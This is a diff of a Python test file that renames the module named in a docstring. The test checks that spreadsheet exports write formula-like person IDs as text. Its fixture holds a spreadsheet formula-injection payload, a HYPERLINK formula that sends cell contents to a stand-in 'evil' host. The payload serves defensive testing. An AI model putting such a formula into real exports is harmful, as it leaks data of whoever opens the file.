@@ -29,7 +29,7 @@ def test_unknown_template_variable_is_refused(tmp_path: Path) -> None:
 
 
 def test_exports_are_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
-    """A person ID that a spreadsheet would run as a formula is written as text (csvsafe)."""
+    """A person ID that a spreadsheet would run as a formula is written as text (hitflow_csv)."""
     rows = [
         (1, '=HYPERLINK("http://evil/?"&A2,"Click me")', "https://x.org/1.jpg", None, None),
         (2, "-7", "u", "H", "T"),
